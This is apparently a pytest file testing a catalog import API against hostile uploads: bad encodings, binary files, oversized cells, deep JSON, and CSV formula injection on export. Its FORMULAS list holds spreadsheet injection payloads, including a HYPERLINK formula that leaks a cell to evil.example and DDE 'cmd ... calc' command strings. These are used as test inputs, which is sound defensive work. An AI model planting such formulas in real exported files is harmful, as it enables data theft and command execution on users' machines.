"""Hostile catalog files (``POST /api/v1/catalogs/<slug>/import``) and what an export makes of
hostile cells: the wrong encoding, binary files named .csv, cells past every limit, JSONL nested
past reason, and formulas for the spreadsheet that opens the manifest. A file that cannot be read
is a 400 and imports nothing; a bad row is rejected by line with its reason while the good ones go
in.
(tests/catalog/ covers a missing column, an unknown extension, a file over the byte and row
limits, bad JSON lines and escape_cell itself.)
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest

from catalog import runs
from catalog.exports import FORMULA_PREFIXES, catalog_export_build, export_keys
from catalog.models import CatalogImport, CatalogRun, Product
from catalog.services import catalog_create
from generation import storage
from models_registry import services as registry

from ..catalog.conftest import sent  # noqa: F401 - the fixture recording what Celery would get
from ..catalog.test_runs import _jobs, finish

pytestmark = pytest.mark.django_db
HEADER = b"sku,name,category\n"


@pytest.fixture
def catalog(owner, tiny_base_model):  # type: ignore[no-untyped-def]
    registry.category_create(
        actor=owner.principal, slug="produce", name="Produce", base_model=tiny_base_model
    )
    return catalog_create(actor=owner.principal, slug="spring")


def _upload(client, data: bytes, name: str = "products.csv", **extra):  # type: ignore[no-untyped-def]
    stream = io.BytesIO(data)
    stream.name = name
    return client.post("/api/v1/catalogs/spring/import", {"file": stream, **extra})


def _nothing_imported() -> bool:
    return not Product.objects.exists() and not CatalogImport.objects.exists()


def _rejections(response) -> dict[int, str]:  # type: ignore[no-untyped-def]
    return {r["line"]: r["reason"] for r in response.json()["rejections"]}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("sku,name,category\nA-1,Äpfel,produce\n".encode("utf-16"), "not UTF-8 text"),
        ("sku,name,category\nA-1,Äpfel,produce\n".encode("utf-16-le"), "lacks the column(s)"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00", "not UTF-8 text"),
        (b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)), "lacks the column(s)"),
        (b"\x00" * 64 + b"\n" + b"\x00" * 64, "lacks the column(s)"),
        (b"\xef\xbb\xbf\xff\xfe,name,category\n", "not UTF-8 text"),
    ],
    ids=["utf-16", "utf-16-le-no-bom", "png-named-csv", "zip-named-csv", "nul-bytes", "bad-bom"],
)
def test_a_file_in_the_wrong_encoding_or_binary_is_a_400_and_imports_nothing(
    owner, client_for, catalog, data, message
):
    response = _upload(client_for(owner), data)
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "invalid_file" and message in error["message"]
    assert _nothing_imported()


def test_latin_1_rows_are_rejected_by_line_and_the_utf8_ones_go_in(owner, client_for, catalog):
    data = HEADER + "A-1,Café crème,produce\nA-2,Apple,produce\n".encode("latin-1")
    response = _upload(client_for(owner), data)
    assert response.status_code == 201, response.content
    assert _rejections(response) == {2: "bad encoding: the row is not UTF-8 text"}
    assert list(Product.objects.values_list("sku", flat=True)) == ["A-2"]


def test_huge_cells_are_rejected_by_line_naming_the_cell_and_the_limit(
    owner, client_for, catalog, settings
):
    limit = settings.EASEL_CATALOG_MAX_CELL_CHARS
    rows = [
        f"A-1,{'x' * (limit + 1)},produce",  # past the cell limit
        f'A-2,"{"y" * 200_000}",produce',  # past the CSV reader's own field limit
        f"A-3,Apple,produce,{'z' * (limit + 5)}",  # an extra column: a huge attribute
        "A-4,Pear,produce",
    ]
    response = _upload(client_for(owner), HEADER + "\n".join(rows).encode() + b"\n")
    assert response.status_code == 201, response.content
    reasons = _rejections(response)
    assert reasons[2] == f"cell 'name' is {limit + 1} characters long; the limit is {limit}"
    assert reasons[3].startswith("not valid CSV: field larger than field limit")
    assert "the row has 4 cells but the header has 3 columns" in reasons[4]
    assert list(Product.objects.values_list("sku", flat=True)) == ["A-4"]


def test_jsonl_with_huge_nested_objects_rejects_those_lines(owner, client_for, catalog, settings):
    wide = {f"k{i}": {"v": "x" * 50} for i in range(200)}
    lines = [
        {"sku": "J-1", "name": "Plum", "category": "produce", "attributes": wide},
        {"sku": "J-2", "name": "Plum", "category": "produce", "attributes": {"a": {"b": "c"}}},
        {"sku": "J-3", "name": {"nested": ["x"] * 10}, "category": "produce"},
        {"sku": "J-4", "name": "Fig", "category": "produce", "colour": "x" * 10_000_000},
        {"sku": "J-5", "name": "Fig", "category": "produce"},
    ]
    data = b"".join(json.dumps(line).encode() + b"\n" for line in lines)
    response = _upload(client_for(owner), data, name="p.jsonl")
    assert response.status_code == 201, response.content
    reasons = _rejections(response)
    limit = settings.EASEL_CATALOG_MAX_CELL_CHARS
    assert reasons[1].startswith("cell 'attributes' is ") and f"the limit is {limit}" in reasons[1]
    assert reasons[2] == "attribute 'a' must be text or a number"
    assert reasons[3] == "sku, name, category and template must be text or a number"
    assert reasons[4].startswith("cell 'colour' is 10000000 characters long")
    assert list(Product.objects.values_list("sku", flat=True)) == ["J-5"]


@pytest.mark.parametrize("fmt", ["jsonl", "csv-attributes-cell"])
def test_json_nested_past_the_recursion_limit_rejects_the_line(owner, client_for, catalog, fmt):
    deep = "[" * 990 + "]" * 990  # 1,980 characters: under the cell limit
    if fmt == "jsonl":
        data, name = (
            (
                '{"sku":"J-1","name":"x","category":"produce","attributes":' + deep + "}\n"
                '{"sku":"J-2","name":"Fig","category":"produce"}\n'
            ).encode(),
            "p.jsonl",
        )
    else:
        data, name = (
            (f'sku,name,category,attributes\nA-1,x,produce,"{deep}"\nA-2,Fig,produce,\n').encode(),
            "p.csv",
        )
    response = _upload(client_for(owner), data, name=name)
    assert response.status_code == 201
    assert 2 in _rejections(response) or 1 in _rejections(response)
    assert list(Product.objects.values_list("sku", flat=True))[-1] in ("J-2", "A-2")


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "=1+1\n=2+2",
]


@pytest.fixture
def exported(owner, client_for, catalog, sent) -> Iterator[list[dict[str, str]]]:  # noqa: F811
    """A completed run's manifest rows for products whose SKUs and names are formulas."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["sku", "name", "category"])
    for n, formula in enumerate(FORMULAS):
        writer.writerow([formula if n in (1, 3, 5) else f"F-{n}", formula, "produce"])
    response = _upload(client_for(owner), out.getvalue().encode())
    assert response.status_code == 201 and response.json()["rows_rejected"] == 0, response.content
    run = runs.catalog_run_create(actor=owner.principal, catalog=catalog, mode="all")
    runs.catalog_run_start(run_id=run.pk)
    for job in _jobs(run):
        finish(job)
    runs.catalog_run_advance(run_id=run.pk)
    assert CatalogRun.objects.get(pk=run.pk).status == "completed"
    catalog_export_build(run_id=run.pk)
    manifest_key, _zip = export_keys(CatalogRun.objects.get(pk=run.pk))
    yield list(csv.DictReader(io.StringIO(storage.read_object(manifest_key).decode())))


def test_no_manifest_cell_starts_as_a_formula_whatever_the_import_held(exported):
    assert len(exported) == len(FORMULAS)
    for row in exported:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
    names = sorted(r["name"] for r in exported)
    # Leading blanks were trimmed at import; what is left is kept as text, behind a quote.
    assert "'=1+1" in names and "'+cmd|' /C calc'!A0" in names
    assert all(n.startswith("'") for n in names)
